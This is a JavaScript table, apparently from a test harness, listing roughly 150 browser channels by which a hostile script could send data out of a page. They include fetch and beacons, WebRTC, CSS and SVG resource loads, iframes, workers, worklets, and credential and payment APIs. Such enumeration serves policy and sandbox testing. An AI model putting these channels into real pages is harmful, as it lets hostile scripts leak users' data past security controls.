// Every way in which a hostile script could send data out while the page stays.
// Each function gets a URL and its host name.
const stays = {
  "fetch-get": (u) => fetch(u),
  "fetch-post": (u) => fetch(u, { method: "POST", body: word }),
  "fetch-no-cors": (u) => fetch(u, { method: "POST", body: word, mode: "no-cors" }),
  "fetch-keepalive": (u) => fetch(u, { keepalive: true, mode: "no-cors" }),
  "fetch-referrer": (u) => fetch(u, { referrer: `/${word}`, referrerPolicy: "unsafe-url" }),
  "fetch-later": (u) => fetchLater(u, { method: "POST", body: word, activateAfter: 0 }),
  "cache-add": async (u) => (await caches.open("a")).add(u),
  "xhr": (u) => { const it = new XMLHttpRequest(); it.open("GET", u); it.send(); },
  "beacon": (u) => navigator.sendBeacon(u, word),
  "socket": (u, host) => keep(new WebSocket(`wss://${host}/${word}`)),
  "socket-stream": (u, host) => ready(new WebSocketStream(`wss://${host}/${word}`), "opened"),
  "event-source": (u) => keep(new EventSource(u)),
  "web-transport": (u) => ready(new WebTransport(u), "ready"),
  ...each("webrtc-", ["stun:3478", "stun:19302", "turn:3478", "turn:3478?transport=tcp", "turns:443"],
    (it, u, host) => call([{ urls: it.replace(":", `:${host}:`), username: word, credential: word }])),
  "webrtc-candidate": async (u, host) => {
    const a = await call([]), b = keep(new RTCPeerConnection());
    await b.setRemoteDescription(a.localDescription);
    await b.setLocalDescription();
    await a.setRemoteDescription(b.localDescription);
    const candidate = `candidate:1 1 udp 2113937151 ${host} 3478 typ host`;
    await a.addIceCandidate({ candidate, sdpMid: "0", sdpMLineIndex: 0 });
  },
  "webrtc-identity": (u, host) => {
    keep(new RTCPeerConnection()).setIdentityProvider(host, { protocol: word });
    return kept.at(-1).getIdentityAssertion();
  },
  "image": (u) => picture(u),
  "image-srcset": (u) => put("img", { srcset: `${u} 1x` }),
  "picture": (u) => { const it = put("picture"); put("source", { srcset: u }, it); put("img", {}, it); },
  "image-input": (u) => put("input", { type: "image", src: u }),
  "background-attribute": (u) => put("table", { background: u }),
  "attribution": (u) => put("img", { attributionsrc: u }),
  "html": (u) => { put("div").innerHTML = html(image(u)); },
  "html-unsafe": (u) => put("div").setHTMLUnsafe(html(image(u))),
  "html-fragment": (u) => document.body.append(new Range().createContextualFragment(html(image(u)))),
  "html-parser": (u) => document.body.append(parsed(image(u), "text/html").images[0]),
  "html-handler": (u) => { put("div").innerHTML = html(`<img src="/none" onerror='${sent(u)}'>`); },
  ...each("css-", ["background-image", "border-image-source", "content", "list-style-image", "mask-image",
    "shape-outside", "filter", "clip-path"], (it, u) => styled(it, `url(${u}#a)`)),
  "css-cursor": (u) => styled("cursor", `url(${u}),auto`),
  "style": (u) => { head("style").textContent = `body{background-image:url(${u})}`; },
  "style-import": (u) => { head("style").textContent = `@import url(${u});`; },
  "style-attribute": (u) => put("p", { style: `background:url(${u})` }),
  "rule": (u) => rule(`html{background-image:url(${u})!important}`),
  "rule-import": (u) => rule(`@import url(${u});`, true),
  "rule-font": (u) => { rule(fonts(u, "b")); styled("font-family", "b"); },
  "sheet-adopted": (u) => {
    document.adoptedStyleSheets.push(new CSSStyleSheet());
    document.adoptedStyleSheets.at(-1).replaceSync(`p{background-image:url(${u})}`);
  },
  "style-font": (u) => { head("style").textContent = fonts(u, "c"); styled("font-family", "c"); },
  "font": (u) => new FontFace("d", `url(${u})`).load(),
  "svg-image": (u) => drawn("image", { href: u, width: 9, height: 9 }),
  "svg-animated": (u) => drawn("set", { attributeName: "href", to: u },
    drawn("image", { width: 9, height: 9 })),
  "svg-use": (u) => drawn("use", { href: `${u}#a` }),
  "svg-fe-image": (u) => {
    const it = drawn("feImage", { href: u }, drawn("filter", { id: "out" })).parentNode;
    drawn("rect", { width: 9, height: 9, filter: "url(#out)" }, it.parentNode);
  },
  "svg-fill": (u) => drawn("rect", { width: 9, height: 9, fill: `url(${u}#a)` }),
  "svg-script": (u) => drawn("script", { href: file(u) }),
  "script": (u) => put("script", { src: file(u) }),
  "script-module": (u) => put("script", { type: "module", src: file(u) }),
  "import": (u) => import(u),
  "import-json": (u) => import(u, { with: { type: "json" } }),
  "import-blob": (u) => import(blob(`import "${u}"`, "text/javascript")),
  "import-map": (u) => { script("importmap", `{"imports":{"out":"${u}"}}`); return import("out"); },
  ...each("link-", ["stylesheet", "icon", "manifest", "modulepreload", "prefetch", "prerender",
    "preconnect", "dns-prefetch", "compression-dictionary"], link),
  ...each("link-preload-", ["image", "font", "script", "fetch"],
    (as, u) => head("link", { rel: "preload", href: u, as, crossorigin: "" })),
  "link-preload-srcset": (u) => head("link", { rel: "preload", as: "image", imagesrcset: `${u} 1x` }),
  "anchor-dns": (u) => {
    head("meta", { "http-equiv": "x-dns-prefetch-control", content: "on" });
    put("a", { href: u });
  },
  ...each("speculation-", ["prefetch", "prerender"], (it, u) => script("speculationrules",
    JSON.stringify({ [it]: [{ source: "list", urls: [u], eagerness: "immediate" }] }))),
  ...each("", ["iframe", "embed", "video", "audio"], (it, u) => put(it, { src: u, preload: "auto" })),
  "iframe-srcdoc": (u) => put("iframe", { srcdoc: html(image(u)) }),
  "iframe-srcdoc-script": (u) => put("iframe", { srcdoc: html(`<script>${sent(u)}</script>`) }),
  "iframe-blob": (u) => put("iframe", { src: blob(page(u), "text/html") }),
  "iframe-data": (u) => put("iframe", { src: data("text/html", page(u)) }),
  "iframe-script-address": (u) => put("iframe", { src: `javascript:parent.${sent(u)}` }),
  "iframe-blank-fetch": (u) => put("iframe").contentWindow.fetch(u),
  "iframe-blank-image": (u) => picture(u, put("iframe").contentWindow),
  "iframe-own-missing": (u) => within(put("iframe", { src: "/no/" }).contentWindow, "/no/", u),
  "object": (u) => put("object", { data: u }),
  "video-poster": (u) => put("video", { poster: u }),
  "video-source": (u) => put("source", { src: u }, put("video", { preload: "auto" })),
  "video-track": (u) => {
    const it = put("track", { src: u, default: "" }, put("video", { crossorigin: "", src: "/none.webm" }));
    it.track.mode = "showing";
  },
  "media-session": (u) => Object.assign(navigator.mediaSession,
    { metadata: new MediaMetadata({ title: word, artwork: [{ src: u }] }) }),
  "form-in-frame": (u) => { put("iframe", { name: "room" }); form({ target: "room" }, u); },
  "ping": (u) => click({ href: "#a", ping: u }),
  "worker-blob": (u) => worker(blob(sent(u), "text/javascript")),
  "worker-blob-module": (u) => worker(blob(`import "${u}"`, "text/javascript"), { type: "module" }),
  "worker-data": (u) => worker(data("text/javascript", sent(u))),
  "worker-elsewhere": (u) => worker(u),
  ...each("worker-own-", ["fetch", "socket", "script", "nested"],
    (it, u) => worker(`/ways-out-worker.js?${it}=${u}`)),
  "worker-shared-blob": (u) => keep(new SharedWorker(file(blob(sent(u), "text/javascript")))),
  "worker-shared": (u) => keep(new SharedWorker(file(`/ways-out-worker.js?fetch=${u}`))),
  ...each("service-worker-", ["fetch", "script"], service),
  "background-fetch": async (u) => (await service("idle", u)).backgroundFetch.fetch(word, [u]),
  "worklet-paint": (u) => CSS.paintWorklet.addModule(u),
  "worklet-audio": (u) => new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(u),
  "worklet-audio-blob": (u) => new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(
    blob(`import "${u}"`, "text/javascript")),
  "xslt-document": (u) => transform(
    `<xsl:template match="/"><xsl:copy-of select="document('${u}')"/></xsl:template>`),
  "xslt-import": (u) => transform(`<xsl:import href="${u}"/>`),
  "cookie": (u, host) => { document.cookie = `word=${word}; domain=${host}`; },
  "message": (u, host) => [parent, opener, top].forEach((it) => it?.postMessage({ host, word }, "*")),
  "protocol-handler": (u) => navigator.registerProtocolHandler("web+ebb", `${u}?%s`),
  "payment": (u) => keep(new PaymentRequest([{ supportedMethods: u }], bought)).canMakePayment(),
  "identity": (u) => navigator.credentials.get(
    { identity: { providers: [{ configURL: u, clientId: word }] } }),
  "passkey": (u, host) => navigator.credentials.get(
    { publicKey: { challenge: new Uint8Array(16), rpId: host, timeout: 1000 } }),
  "notification": async (u) => {
    await Notification.requestPermission();
    return keep(new Notification(word, { icon: u, image: u, badge: u }));
  },
  "share": (u) => navigator.share({ title: word, url: u }),
  "badge": () => navigator.setAppBadge(7),
  "install": (u) => navigator.install(u, u),
  "shared-storage": (u) => sharedStorage.createWorklet(u, { dataOrigin: "script-origin" }),
  "interest-group": (u, host) => navigator.joinAdInterestGroup({ name: word, owner: `https://${host}` }, 9),
};
